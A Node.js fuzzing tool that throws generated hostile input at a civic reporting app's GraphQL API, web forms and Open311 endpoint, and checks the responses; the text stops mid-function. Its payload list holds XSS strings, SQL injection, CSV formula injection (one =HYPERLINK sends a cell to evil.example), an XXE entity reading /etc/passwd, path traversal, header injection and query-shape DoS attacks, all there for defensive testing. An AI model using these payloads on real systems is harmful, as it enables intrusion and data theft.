#!/usr/bin/env node
// Fault injection, part 3: malformed input, generated with fast-check, against a running stack.
//
//   node tools/fault/fuzz.mjs            (starts its own stack: tools/fault/fuzz-stack.mjs)
//   FUZZ_API_URLS=http://…,http://… FUZZ_WEB_URL=… FUZZ_DATABASE_URL=… node tools/fault/fuzz.mjs
//   FUZZ_SEED=<n> (default 20261126)  FUZZ_CASES=<total> (default 10500)  FUZZ_ONLY=<category>#<index>
//   --update-docs: the figures go to docs/operations.md (fuzz-figures markers)
//
// Every GraphQL mutation of apps/api/schema.gql (arguments generated from their input types), every
// named form action of apps/web/src/routes/**/+page.server.ts and the Open311 POST get hostile values
// (huge strings, invalid UTF-8 bytes, lone surrogates, control characters, HTML/script, SQL, formula and
// RTL payloads, wrong types, missing fields, enormous lists), as an anonymous visitor, a resident, an
// agent and an admin; GraphQL also gets query-shape attacks (depth, aliases, batches, huge variables).
// Oracles: no 5xx (nor an INTERNAL_SERVER_ERROR GraphQL error); every input refusal names its field;
// afterwards no stored text holds control characters, U+FFFD or more than its domain limit, and the
// stored payloads render inert in the public HTML, the Open311 XML/JSON, the CSV files and the emails.
// Used by tools/fault/run.mjs (runFuzz) and runnable alone (the main at the bottom).
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { createRequire } from 'node:module';
import { fileURLToPath, pathToFileURL } from 'node:url';
import fc from 'fast-check';
import { buildSchema, getNamedType, isEnumType, isInputObjectType, isListType, isNonNullType, isScalarType, isObjectType, isAbstractType } from 'graphql';
import * as devalue from 'devalue';
import pg from 'pg';
import { parse as parseHtml } from 'parse5';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const requireFromNeeds = createRequire(path.join(root, 'libs/server/needs/package.json'));
const { XMLValidator } = requireFromNeeds('fast-xml-parser');

export const DEFAULT_SEED = 20261126;
/** Cases per category for the default total (scaled to FUZZ_CASES / `cases`). */
const SHARES = { 'gql-hostile-strings': 3500, 'gql-stored-payloads': 500, 'gql-wrong-types': 1500, 'gql-raw-bytes': 600, 'gql-query-shape': 600, 'form-actions': 2600, 'open311-post': 1200 };
// Enough to keep two cores busy (the stack is CPU-bound) without queueing requests behind the web's 10 s api timeout.
const CONCURRENCY = Number(process.env.FUZZ_CONCURRENCY ?? 8);
// The payloads call fz(…). In XML (data, not a page) an element of theirs shows as one of these strings.
const LIVE_MARKERS = ['<script>fz(', '<img src=x onerror', '<svg onload=fz(', '<iframe srcdoc', '<a href="javascript:fz'];

/**
 * What of the payloads would run in a browser: the page parsed as a browser parses it (parse5), then
 * script elements whose code is a payload's, on* attributes, javascript: URLs and iframe srcdoc that
 * call fz(…). Escaped text (&lt;img … onerror=fz(2)&gt;) is a text node, and is inert; so is stored text
 * quoted in a JS string of the hydration script (its < written \u003C).
 */
export function liveMarkup(html) {
  const found = [];
  const walk = (node) => {
    if (node.tagName) {
      // A payload's own <script>fz(1)</script>; the page's hydration script quotes stored text in JS strings.
      if (node.tagName === 'script' && /^\s*fz\(/.test((node.childNodes ?? []).map((c) => c.value ?? '').join(''))) found.push('<script>fz(…)</script>');
      for (const attr of node.attrs ?? []) {
        const value = attr.value ?? '';
        if (!value.includes('fz(')) continue;
        if (/^on/i.test(attr.name)) found.push(`<${node.tagName} ${attr.name}=…>`);
        else if (['href', 'src', 'action', 'formaction', 'xlink:href'].includes(attr.name) && /^\s*javascript:/i.test(value)) found.push(`<${node.tagName} ${attr.name}="javascript:…">`);
        else if (attr.name === 'srcdoc') found.push(`<${node.tagName} srcdoc=…>`);
      }
    }
    for (const child of node.childNodes ?? []) walk(child);
    if (node.content) walk(node.content); // <template>
  };
  walk(parseHtml(html));
  return [...new Set(found)];
}

// ---------------------------------------------------------------------------------------------------
// Hostile values

const PAYLOADS = [
  '<script>fz(1)</script>',
  '"><img src=x onerror=fz(2)>',
  "'><svg onload=fz(3)>",
  '<iframe srcdoc="<script>fz(4)</script>">',
  '<a href="javascript:fz(5)">lien</a>',
  "'; DROP TABLE need; --",
  "' OR '1'='1",
  '1; SELECT pg_sleep(5)--',
  '=HYPERLINK("http://evil.example/?"&A1,"clic")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+9)*cmd|\' /C calc\'!A0',
  '\u202Egnp.exe\u202C',
  '\u2066\u2067\u2068abc\u2069',
  'a\u0000b',
  '\u0000',
  'ligne\r\nBcc: victime@example.fr',
  '\u0007\u0008\u001b[31mrouge\u001b[0m',
  '\u007f\u0085\u009f',
  '\ud800',
  'x\udfffy',
  '\ufffd\ufffe\uffff',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '../../../../etc/passwd',
  '%00%0d%0a%3Cscript%3Efz(6)%3C/script%3E',
  '&lt;script&gt;fz(7)&lt;/script&gt;',
  ']]><x>&amp;<![CDATA[',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '\u200b\u200c\u200d\ufeff',
  'Z\u0351\u0352\u0357\u0358\u035b\u0310\u0352\u0350\u033e\u0314',
  '👩‍👩‍👧‍👦🇫🇷',
  '__proto__',
  'constructor',
  'null',
  'undefined',
  'true',
  '-1',
  '1e400',
  'NaN',
  '   ',
  '',
];
const WORDS = ['Banc', 'cassé', 'près', 'de', "l'école", 'éclairage', 'rue', 'des', 'Lices', 'trottoir', 'dangereux', 'pour', 'les', 'poussettes', 'Angers', 'bus', 'ligne', '3'];

const word = fc.constantFrom(...WORDS);
const sentence = fc.array(word, { minLength: 3, maxLength: 14 }).map((w) => w.join(' '));
const payload = fc.constantFrom(...PAYLOADS);
const controlChars = fc.string({ unit: fc.integer({ min: 0, max: 0x9f }).filter((c) => c < 0x20 || c >= 0x7f).map((c) => String.fromCharCode(c)), minLength: 1, maxLength: 6 });
const surrogates = fc.string({ unit: fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c)), minLength: 1, maxLength: 3 });
/** A realistic text with something hostile inside: long enough to pass the length rules, so it may be stored. */
const seasoned = fc
  .tuple(sentence, fc.oneof(payload, controlChars, surrogates, fc.string({ unit: 'binary', maxLength: 8 })), sentence)
  .map(([a, p, b]) => `${a} ${p} ${b}`);
const huge = fc.tuple(fc.integer({ min: 10_000, max: 1_000_000 }), fc.oneof(payload, fc.constant('é'), fc.constant('a'))).map(([n, p]) => p.repeat(Math.ceil(n / Math.max(1, p.length))).slice(0, n));

// Payloads that are valid text (no control characters): the app may store them, and must then show them inert.
const MARKUP = PAYLOADS.filter((p) => /[<>"'=@+]/.test(p) && !/[\u0000-\u001f\u007f-\u009f\ud800-\udfff\ufffd-\uffff]/.test(p));
const storable = (min, max) =>
  fc
    .tuple(fc.constantFrom(...MARKUP), sentence, fc.boolean())
    .map(([p, text, first]) => (first ? `${p} ${text}` : `${text} ${p}`))
    .map((t) => (t.length < min ? `${t} ${'Banc cassé près de l’école. '.repeat(Math.ceil(min / 20))}` : t).slice(0, max));

/** Valid submissions and comments whose text carries markup, formulas or SQL: what gets stored. */
function storedPayloadCases(pools) {
  return fc.oneof(
    fc.record({
      mutation: fc.constant('submitNeed'),
      actor: fc.constantFrom('resident', 'agent'),
      variables: fc.record({
        input: fc.record({ title: storable(5, 120), description: storable(20, 5000), categoryKey: fc.constantFrom(...pools.categoryKeys), communeCode: fc.constantFrom('49007', ...pools.communeCodes) }),
      }),
    }),
    fc.record({
      mutation: fc.constant('postComment'),
      actor: fc.constantFrom('resident', 'agent', 'admin'),
      variables: fc.record({ needId: fc.constantFrom(...pools.needIds), body: storable(2, 2000) }),
    }),
    fc.record({
      mutation: fc.constant('addInternalNote'),
      actor: fc.constant('agent'),
      variables: fc.record({ reference: fc.constantFrom(...pools.references), body: storable(2, 2000) }),
    }),
    fc.record({
      mutation: fc.constant('updateProfile'),
      actor: fc.constantFrom('resident', 'agent'),
      variables: fc.record({ pseudonym: storable(3, 40) }),
    }),
  );
}

/** A hostile string (mostly small; one in 60 between 10 kB and 1 MB). */
export const hostileString = fc.oneof(
  { weight: 30, arbitrary: seasoned },
  { weight: 20, arbitrary: payload },
  { weight: 8, arbitrary: controlChars },
  { weight: 5, arbitrary: surrogates },
  { weight: 8, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 6, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 3, arbitrary: fc.constantFrom('a'.repeat(121), 'é'.repeat(5001), 'x'.repeat(2001)) },
  { weight: 1, arbitrary: huge },
);

const wrongValue = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: true }),
  fc.boolean(),
  fc.constant(null),
  fc.constant({}),
  fc.constant([]),
  fc.dictionary(fc.constantFrom('a', '__proto__', 'constructor', 'x'), fc.string({ maxLength: 5 }), { maxKeys: 3 }),
  fc.array(fc.integer(), { maxLength: 4 }),
  fc.constant(2 ** 53 + 1),
  fc.constant(-(2 ** 31) - 1),
  fc.constant('1e400'),
  hostileString,
);

// ---------------------------------------------------------------------------------------------------
// GraphQL mutations from the committed schema

/** Real values per argument/field name, so that part of the cases gets past the "not found" checks. */
function realValueFor(name, pools) {
  const n = name.toLowerCase();
  if (n === 'needid' || n === 'targetneedid' || n === 'needids') return pools.needIds;
  if (n === 'reference' || n === 'targetreference' || n === 'references') return pools.references;
  if (n === 'authorityid' || n === 'toauthorityid' || n === 'authorityids') return pools.authorityIds;
  if (n === 'organisationid') return pools.organisationIds;
  if (n === 'commentid' || n === 'parentid') return pools.commentIds;
  if (n === 'categorykey') return pools.categoryKeys;
  if (n === 'communecode' || n === 'communecodes') return pools.communeCodes;
  if (n === 'email' || n === 'newemail' || n === 'authoremail') return ['fuzz@example.fr', 'pas-une-adresse', 'a@b'];
  if (n === 'password' || n === 'newpassword' || n === 'currentpassword') return ['une phrase de passe solide'];
  return null;
}

function scalarArb(type, name, pools, mode) {
  const real = realValueFor(name, pools);
  const realArb = real?.length ? fc.constantFrom(...real) : null;
  const withReal = (arb) => (realArb ? fc.oneof({ weight: 2, arbitrary: realArb }, { weight: 3, arbitrary: arb }) : arb);
  switch (type.name) {
    case 'String':
      return withReal(hostileString);
    case 'ID':
      return withReal(fc.oneof(fc.uuid(), hostileString, fc.constant('00000000-0000-0000-0000-000000000000')));
    case 'Int':
      return mode === 'types' ? fc.oneof(fc.integer(), fc.constantFrom(2 ** 31, -(2 ** 31) - 1, 2 ** 53)) : fc.oneof(fc.integer({ min: -5, max: 200 }), fc.constantFrom(0, -1, 2 ** 31 - 1, -(2 ** 31)));
    case 'Float':
      return fc.oneof(fc.double({ noNaN: true, noDefaultInfinity: true }), fc.double({ min: 47, max: 48, noNaN: true }), fc.double({ min: -1, max: 0, noNaN: true }));
    case 'Boolean':
      return fc.boolean();
    case 'DateTime':
    case 'Date':
      return fc.oneof(fc.date({ min: new Date(0), max: new Date('2100-01-01'), noInvalidDate: true }).map((d) => d.toISOString()), hostileString, fc.constantFrom('2026-02-30T00:00:00Z', '99999-01-01T00:00:00Z', '0000-00-00'));
    default:
      return fc.oneof(hostileString, wrongValue);
  }
}

/** An arbitrary for a GraphQL input type; mode 'strings' keeps the shape, 'types' breaks it. */
function typeArb(type, name, pools, mode, depth = 0) {
  const breakIt = (arb, weight) => (mode === 'types' ? fc.oneof({ weight: 100 - weight, arbitrary: arb }, { weight, arbitrary: wrongValue }) : arb);
  if (isNonNullType(type)) {
    const inner = typeArb(type.ofType, name, pools, mode, depth);
    return mode === 'types' ? fc.oneof({ weight: 12, arbitrary: inner }, { weight: 1, arbitrary: fc.constant(null) }) : inner;
  }
  const nullable = (arb) => fc.oneof({ weight: 6, arbitrary: arb }, { weight: 1, arbitrary: fc.constant(null) });
  if (isListType(type)) {
    const item = typeArb(type.ofType, name, pools, mode, depth + 1);
    const normal = fc.array(item, { maxLength: 4 });
    const enormous = fc.tuple(fc.integer({ min: 1_000, max: 50_000 }), item).map(([n, v]) => Array.from({ length: n }, () => v));
    return nullable(breakIt(fc.oneof({ weight: 20, arbitrary: normal }, { weight: 1, arbitrary: enormous }), 15));
  }
  if (isEnumType(type)) {
    const values = type.getValues().map((v) => v.name);
    return nullable(breakIt(fc.oneof({ weight: 5, arbitrary: fc.constantFrom(...values) }, { weight: 1, arbitrary: hostileString }), 15));
  }
  if (isScalarType(type)) return nullable(breakIt(scalarArb(type, name, pools, mode), 20));
  if (isInputObjectType(type)) {
    if (depth > 4) return fc.constant(null);
    const fields = type.getFields();
    const shape = {};
    const required = [];
    for (const [key, field] of Object.entries(fields)) {
      shape[key] = typeArb(field.type, key, pools, mode, depth + 1);
      if (isNonNullType(field.type) && field.defaultValue === undefined) required.push(key);
    }
    let record = fc.record(shape, { requiredKeys: mode === 'types' ? [] : required });
    if (mode === 'types') {
      // Unknown fields, a prototype key and a huge key now and then.
      record = fc.tuple(record, fc.option(fc.constantFrom('unknownField', '__proto__', 'constructor', 'x'.repeat(5000)), { freq: 4 }), wrongValue).map(([r, extra, v]) =>
        extra ? { ...r, [extra]: v } : r,
      );
    }
    return nullable(breakIt(record, 10));
  }
  return fc.constant(null);
}

function printType(type) {
  return String(type);
}

/** One mutation's document: all its arguments as variables, __typename selected where it returns an object. */
function mutationDocument(field) {
  const defs = field.args.map((a) => `$${a.name}: ${printType(a.type)}`).join(', ');
  const args = field.args.map((a) => `${a.name}: $${a.name}`).join(', ');
  const named = getNamedType(field.type);
  const selection = isObjectType(named) || isAbstractType(named) ? ' { __typename }' : '';
  return `mutation Fuzz${defs ? `(${defs})` : ''} { ${field.name}${args ? `(${args})` : ''}${selection} }`;
}

// Mutations that would end the fuzzing actor's own session or account: run anonymously only.
const SELF_DESTRUCTIVE = new Set(['logOut', 'logOutEverywhere', 'deleteMyAccount', 'revokeSession']);

function mutationCases(schema, pools, mode) {
  const fields = Object.values(schema.getMutationType().getFields());
  return fc.constantFrom(...fields).chain((field) => {
    const shape = {};
    for (const a of field.args) shape[a.name] = typeArb(a.type, a.name, pools, mode);
    const actors = SELF_DESTRUCTIVE.has(field.name) ? ['anonymous'] : ['anonymous', 'resident', 'agent', 'admin', 'mediator'];
    const required = field.args.filter((a) => isNonNullType(a.type)).map((a) => a.name);
    return fc.record({
      mutation: fc.constant(field.name),
      actor: fc.constantFrom(...actors),
      variables: fc.record(shape, { requiredKeys: mode === 'types' ? [] : required }),
    });
  });
}

// Raw bytes that are not UTF-8 (or are UTF-8 of things JSON must not carry), put inside a string value.
const BAD_BYTES = [
  [0xff],
  [0xfe, 0xff],
  [0xc3, 0x28],
  [0xa0, 0xa1],
  [0xe2, 0x28, 0xa1],
  [0xed, 0xa0, 0x80],
  [0xed, 0xbf, 0xbf],
  [0xf0, 0x28, 0x8c, 0xbc],
  [0xf8, 0x88, 0x80, 0x80, 0x80],
  [0xc0, 0xaf],
  [0xe0, 0x80, 0xaf],
  [0x00],
  [0x01, 0x1f],
];
const RAW_MARK = 'RAWBYTESHERE';

function rawByteCases(schema, pools) {
  return fc.tuple(mutationCases(schema, pools, 'strings'), fc.array(fc.constantFrom(...BAD_BYTES.keys()), { minLength: 1, maxLength: 3 }), sentence).map(([c, bytes, text]) => {
    // Replace the first string variable (at any depth) with text + marker; the marker becomes raw bytes.
    const variables = structuredClone(c.variables);
    let placed = false;
    const visit = (obj) => {
      for (const key of Object.keys(obj ?? {})) {
        if (placed) return;
        if (typeof obj[key] === 'string') {
          obj[key] = `${text} ${RAW_MARK} ${text}`;
          placed = true;
        } else if (obj[key] && typeof obj[key] === 'object') visit(obj[key]);
      }
    };
    visit(variables);
    return { ...c, variables, rawBytes: bytes.map((i) => BAD_BYTES[i]) };
  });
}

// Query-shape attacks, each a raw HTTP body (string or Buffer) and content type.
function shapeCases(schema) {
  const queryFields = Object.values(schema.getQueryType().getFields());
  // The deepest path of object fields without required arguments, for deep nesting of real fields.
  const argless = (f) => f.args.every((a) => !isNonNullType(a.type));
  const deepSelection = (levels) => {
    let inner = '__typename';
    for (let i = 0; i < levels; i++) inner = `__typename ... on Query { q${i}: __typename ${i % 2 ? `__schema { queryType { name } }` : ''} } ${inner ? '' : ''}`;
    return inner;
  };
  const nested = (levels) => {
    // __type(name) { fields { type { ofType { ofType ... } } } }: depth without end in any schema.
    let s = 'name';
    for (let i = 0; i < levels; i++) s = `ofType { ${s} }`;
    return `{ __type(name: "Need") { fields { type { ${s} } } } }`;
  };
  const objectFields = queryFields.filter((f) => argless(f) && isObjectType(getNamedType(f.type)));
  const attacks = [
    fc.integer({ min: 9, max: 3_000 }).map((n) => ({ kind: 'deep introspection', body: { query: nested(n) } })),
    fc.integer({ min: 16, max: 20_000 }).map((n) => ({ kind: 'aliases', body: { query: `{ ${Array.from({ length: n }, (_, i) => `a${i}: __typename`).join(' ')} }` } })),
    fc.integer({ min: 2, max: 500 }).map((n) => ({ kind: 'batched array', body: Array.from({ length: n }, () => ({ query: '{ __typename }' })) })),
    fc.integer({ min: 10, max: 100_000 }).map((n) => ({ kind: 'huge variables object', body: { query: '{ __typename }', variables: Object.fromEntries(Array.from({ length: n }, (_, i) => [`v${i}`, i])) } })),
    fc.integer({ min: 1_000, max: 200_000 }).map((n) => ({ kind: 'deeply nested JSON', raw: `{"query":"{ __typename }","variables":{"x":${'['.repeat(n)}${']'.repeat(n)}}}` })),
    fc.integer({ min: 100, max: 20_000 }).map((n) => ({ kind: 'repeated directives', body: { query: `{ __typename ${'@include(if: true) '.repeat(n)}}` } })),
    fc.integer({ min: 100, max: 5_000 }).map((n) => ({ kind: 'many fragments', body: { query: `{ ...F0 } ${Array.from({ length: n }, (_, i) => `fragment F${i} on Query { __typename ${i + 1 < n ? `...F${i + 1}` : ''} }`).join(' ')}` } })),
    fc.constant({ kind: 'fragment cycle', body: { query: '{ ...A } fragment A on Query { ...B } fragment B on Query { ...A }' } }),
    fc.integer({ min: 10_000, max: 1_100_000 }).map((n) => ({ kind: 'huge document', body: { query: `{ __typename ${'#'.repeat(n)}\n }` } })),
    fc.integer({ min: 2, max: 2_000 }).map((n) => ({ kind: 'many operations', body: { query: Array.from({ length: n }, (_, i) => `query Q${i} { __typename }`).join(' '), operationName: `Q${n - 1}` } })),
    fc.string({ maxLength: 200 }).map((s) => ({ kind: 'malformed JSON', raw: `{"query": "{ __typename }", ${s}` })),
    hostileString.map((s) => ({ kind: 'query is garbage', body: { query: s } })),
    wrongValue.map((v) => ({ kind: 'query of the wrong type', body: { query: v, variables: v, operationName: v } })),
    fc.constant({ kind: 'text/plain body (CSRF)', raw: '{"query":"mutation { logOut }"}', contentType: 'text/plain' }),
    fc.constant({ kind: 'GET mutation', method: 'GET', path: '/graphql?query=mutation%7BlogOut%7D' }),
    fc.constant({ kind: 'empty body', raw: '' }),
    fc.integer({ min: 1, max: 12 }).map((n) => ({ kind: 'deep real fields', body: { query: `{ ${deepSelection(n)} }` } })),
    ...(objectFields.length
      ? [fc.tuple(fc.constantFrom(...objectFields), fc.integer({ min: 2, max: 60 })).map(([f, n]) => ({ kind: 'aliased real field', body: { query: `{ ${Array.from({ length: n }, (_, i) => `x${i}: ${f.name} { __typename }`).join(' ')} }` } }))]
      : []),
  ];
  return fc.record({ actor: fc.constantFrom('anonymous', 'resident'), attack: fc.oneof(...attacks) });
}

// ---------------------------------------------------------------------------------------------------
// Form actions from the web's route files

let shared = null;
function sharedComponents() {
  if (shared) return shared;
  shared = [];
  const walk = (dir) => {
    for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
      const full = path.join(dir, entry.name);
      if (entry.isDirectory()) walk(full);
      else if (entry.name.endsWith('.svelte')) shared.push(fs.readFileSync(full, 'utf8'));
    }
  };
  walk(path.join(root, 'apps/web/src/lib'));
  return shared;
}

/** Every +page.server.ts with `export const actions`: its path, its action names and the fields it reads. */
export function formActions(webRoot = path.join(root, 'apps/web/src/routes')) {
  const out = [];
  const walk = (dir) => {
    for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
      const full = path.join(dir, entry.name);
      if (entry.isDirectory()) walk(full);
      else if (entry.name === '+page.server.ts') {
        const text = fs.readFileSync(full, 'utf8');
        const at = text.search(/export const actions\b/);
        if (at < 0) continue;
        const rel = path.relative(webRoot, path.dirname(full)).split(path.sep);
        const route = '/' + rel.filter((s) => !/^\(.*\)$/.test(s)).join('/');
        const block = text.slice(at);
        const names = [...new Set([...block.matchAll(/^ {2}(?:async )?([A-Za-z_]\w*)(?:: (?:async|[a-z]\w*\()|\s*\()/gm)].map((m) => m[1]))];
        const fields = [...new Set([...text.matchAll(/(?:field|number|checkbox|fields|values)\w*\(\s*\w+,\s*'([^']+)'/g), ...text.matchAll(/\.get(?:All)?\(\s*'([^']+)'\s*\)/g)].map((m) => m[1]))];
        // Values the person never types: hidden inputs, submit buttons' values, email-link tokens. A refusal
        // of those is a form-level message (there is no field to point at), not a field error.
        // The route's own components, and the shared ones whose forms post to it (…/soutenir?/…).
        const last = route.split('/').filter(Boolean).pop() ?? '';
        const svelte = [
          ...fs
            .readdirSync(path.dirname(full))
            .filter((f) => f.endsWith('.svelte'))
            .map((f) => fs.readFileSync(path.join(path.dirname(full), f), 'utf8')),
          ...sharedComponents().filter((text) => last && !last.startsWith('[') && text.includes(`/${last}`)),
        ].join('\n');
        const untyped = [
          ...new Set([
            ...[...svelte.matchAll(/<input[^>]*type="hidden"[^>]*>/g)].map((m) => /name="(\w+)"/.exec(m[0])?.[1]),
            ...[...svelte.matchAll(/<button[^>]*>/g)].map((m) => /name="(\w+)"/.exec(m[0])?.[1]),
            ...(/emailLinkAction|jeton/.test(text) ? ['jeton'] : []),
            // Chosen in the page's address (?lieu=…, ?besoin=…), not in the form.
            ...[...text.matchAll(/searchParams\.get\('(\w+)'\)/g)].map((m) => m[1]),
            ...(/requireMediation\(/.test(text) ? ['lieu'] : []),
          ]),
        ].filter(Boolean);
        out.push({ file: path.relative(root, full), route, actions: names.length ? names : ['default'], fields, untyped });
      }
    }
  };
  walk(webRoot);
  return out.sort((a, b) => a.route.localeCompare(b.route));
}

// Form actions that end the posting actor's sessions or account: posted anonymously only.
const SELF_DESTRUCTIVE_FORMS = /^\/deconnexion\?\/default$|^\/compte\/sessions\?\/|^\/compte\/supprimer\?\/|^\/compte\?\/password$/;

function formCases(actions, pools) {
  const pairs = actions.flatMap((a) => a.actions.map((name) => ({ ...a, action: name })));
  return fc.constantFrom(...pairs).chain((a) => {
    const fieldNames = [...a.fields, 'retour', 'intent'];
    const value = (name) => {
      const real = realValueFor(name, pools);
      return real?.length ? fc.oneof(fc.constantFrom(...real), hostileString) : fc.oneof({ weight: 8, arbitrary: hostileString }, { weight: 1, arbitrary: fc.constantFrom('on', 'true', '1', '') });
    };
    const fields = fc.array(fc.constantFrom(...fieldNames).chain((n) => fc.tuple(fc.constant(n), value(n))), { maxLength: 12 });
    const params = {
      reference: fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...pools.references) }, { weight: 1, arbitrary: hostileString }),
      id: fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...(pools.organisationIds.length ? pools.organisationIds : ['x'])) }, { weight: 1, arbitrary: hostileString }),
    };
    return fc.record({
      untyped: fc.constant(a.untyped),
      route: fc.constant(a.route),
      action: fc.constant(a.action),
      actor: SELF_DESTRUCTIVE_FORMS.test(`${a.route}?/${a.action}`) ? fc.constant('anonymous') : fc.constantFrom('anonymous', 'resident', 'agent', 'admin', 'mediator'),
      fields,
      params: fc.record(params),
      multipart: fc.integer({ min: 0, max: 3 }).map((n) => n === 0),
      html: fc.integer({ min: 0, max: 9 }).map((n) => n === 0),
      badOrigin: fc.integer({ min: 0, max: 49 }).map((n) => n === 0),
    });
  });
}

// ---------------------------------------------------------------------------------------------------
// Open311 POST

const OPEN311_FIELDS = ['api_key', 'service_code', 'lat', 'long', 'address_string', 'address_id', 'description', 'email', 'first_name', 'last_name', 'phone', 'device_id', 'account_id', 'media_url', 'jurisdiction_id', 'attribute[x]'];

function open311Cases(pools) {
  const coordinate = (min, max) => fc.oneof(fc.double({ min, max, noNaN: true }).map(String), fc.constantFrom('NaN', 'Infinity', '1e400', '-0', '', '47,5', '0x2F'), hostileString);
  const shape = {
    api_key: fc.oneof({ weight: 6, arbitrary: fc.constant(pools.open311Key) }, { weight: 1, arbitrary: hostileString }, { weight: 1, arbitrary: fc.constant('o311_not-a-key') }),
    service_code: fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...pools.categoryKeys) }, { weight: 1, arbitrary: hostileString }),
    lat: fc.oneof({ weight: 3, arbitrary: fc.double({ min: 47.3, max: 47.7, noNaN: true }).map(String) }, { weight: 1, arbitrary: coordinate(-100, 100) }),
    long: fc.oneof({ weight: 3, arbitrary: fc.double({ min: -0.8, max: -0.3, noNaN: true }).map(String) }, { weight: 1, arbitrary: coordinate(-200, 200) }),
    address_string: hostileString,
    description: fc.oneof({ weight: 3, arbitrary: seasoned }, { weight: 2, arbitrary: hostileString }),
    email: fc.oneof(fc.constant('fuzz@example.fr'), hostileString),
    first_name: hostileString,
    last_name: hostileString,
    phone: hostileString,
    device_id: hostileString,
    account_id: hostileString,
    media_url: fc.oneof(fc.constant('javascript:fz(8)'), fc.webUrl(), hostileString),
    jurisdiction_id: hostileString,
    'attribute[x]': hostileString,
  };
  // Half the cases are a valid request whose description carries markup or formulas: it gets stored.
  const clean = fc.record({
    api_key: fc.constant(pools.open311Key),
    service_code: fc.constantFrom(...pools.categoryKeys),
    lat: fc.double({ min: 47.44, max: 47.5, noNaN: true }).map(String),
    long: fc.double({ min: -0.6, max: -0.52, noNaN: true }).map(String),
    description: storable(20, 400),
    // No geocoder offline: the commune is named rather than found from the point.
    jurisdiction_id: fc.constant('49007'),
  });
  return fc.record({
    format: fc.constantFrom('json', 'xml'),
    fields: fc.oneof(fc.record(shape, { requiredKeys: [] }), clean),
    duplicates: fc.boolean(),
    encoding: fc.constantFrom('form', 'form', 'form', 'form', 'json', 'multipart', 'garbage'),
  });
}

// ---------------------------------------------------------------------------------------------------
// HTTP

function truncateDeep(value, max = 160) {
  if (typeof value === 'string') return value.length > max ? `${value.slice(0, max)}…(${value.length} chars)` : value;
  if (Array.isArray(value)) return value.length > 8 ? [...value.slice(0, 8).map((v) => truncateDeep(v, max)), `…(${value.length} items)`] : value.map((v) => truncateDeep(v, max));
  if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).slice(0, 30).map(([k, v]) => [truncateDeep(k, 40), truncateDeep(v, max)]));
  return value;
}

/** One request; a connection reset before any answer (a keep-alive socket the server closed) is retried once. */
async function send(url, options) {
  const first = await sendOnce(url, options);
  if (first.status !== 0 || !/ECONNRESET|UND_ERR_SOCKET|EPIPE/.test(first.error ?? '')) return first;
  // A body over the server's limit: it answers 413 and closes while we are still sending.
  const size = typeof options.body === 'string' ? Buffer.byteLength(options.body) : (options.body?.length ?? 0);
  if (size > 1_048_576) return { status: 413, text: '', oversized: true };
  let again = first;
  for (let attempt = 0; attempt < 2 && again.status === 0; attempt++) {
    retries++;
    await new Promise((resolve) => setTimeout(resolve, 50));
    again = await sendOnce(url, options);
  }
  return again;
}
let retries = 0;

async function sendOnce(url, { method = 'POST', headers = {}, body, timeoutMs = 30_000 }) {
  const controller = new AbortController();
  const timer = setTimeout(() => controller.abort(), timeoutMs);
  try {
    const response = await fetch(url, { method, headers, body, redirect: 'manual', signal: controller.signal });
    const text = await response.text();
    return { status: response.status, headers: response.headers, text };
  } catch (error) {
    return { status: 0, text: '', error: error.name === 'AbortError' ? `no answer within ${timeoutMs} ms` : `${error.message}${error.cause ? ` (${error.cause.code ?? error.cause.message})` : ''}` };
  } finally {
    clearTimeout(timer);
  }
}

function jsonOrNull(text) {
  try {
    return JSON.parse(text);
  } catch {
    return null;
  }
}

/** Problems of one GraphQL answer: 5xx, internal errors, refusals that name no field. */
function graphqlProblems(response, { shape = false } = {}) {
  const problems = [];
  if (response.status === 0) return [`no response: ${response.error}`];
  if (response.status >= 500) problems.push(`HTTP ${response.status}`);
  const body = jsonOrNull(response.text);
  if (!body) {
    if (response.status >= 400 && response.status < 500) return problems; // e.g. Fastify's 413/415 JSON-less refusals
    return [...problems, `unparseable answer (HTTP ${response.status}): ${response.text.slice(0, 200)}`];
  }
  for (const error of body.errors ?? []) {
    const code = error.extensions?.code;
    if (code === 'INTERNAL_SERVER_ERROR' || code === undefined) problems.push(`error ${code ?? '(no code)'}: ${error.message}`);
    if (code === 'BAD_USER_INPUT' && !shape) {
      const fields = error.extensions?.fields;
      if (!Array.isArray(fields) || !fields.length || fields.some((f) => typeof f.field !== 'string' || !f.field || typeof f.message !== 'string' || !f.message)) {
        problems.push(`BAD_USER_INPUT without named fields: ${error.message.slice(0, 300)}`);
      }
    }
    if (code === 'GRAPHQL_VALIDATION_FAILED' && !shape && !/"[^"]+"/.test(error.message)) problems.push(`validation error naming nothing: ${error.message.slice(0, 300)}`);
  }
  return problems;
}

// ---------------------------------------------------------------------------------------------------
// Setup: pools of real values, actors with sessions, an Open311 key

async function graphql(apiUrl, query, variables, token, webApiKey) {
  const response = await send(`${apiUrl}/graphql`, {
    headers: { 'content-type': 'application/json', ...(token ? { authorization: `Bearer ${token}` } : {}), ...(webApiKey ? { 'x-pit-web-key': webApiKey } : {}) },
    body: JSON.stringify({ query, variables }),
  });
  const body = jsonOrNull(response.text);
  if (!body || body.errors) throw new Error(`${query.slice(0, 60)}: ${response.status} ${response.text.slice(0, 300)}`);
  return body.data;
}

async function newSession(sql, personId) {
  const token = crypto.randomBytes(32).toString('base64url');
  await sql.query(`INSERT INTO session (token_hash, person_id, auth_method, expires_at) VALUES ($1, $2, 'password', now() + interval '1 day')`, [
    crypto.createHash('sha256').update(token, 'utf8').digest(),
    personId,
  ]);
  return token;
}

async function setup({ apiUrl, sql, log, runId }) {
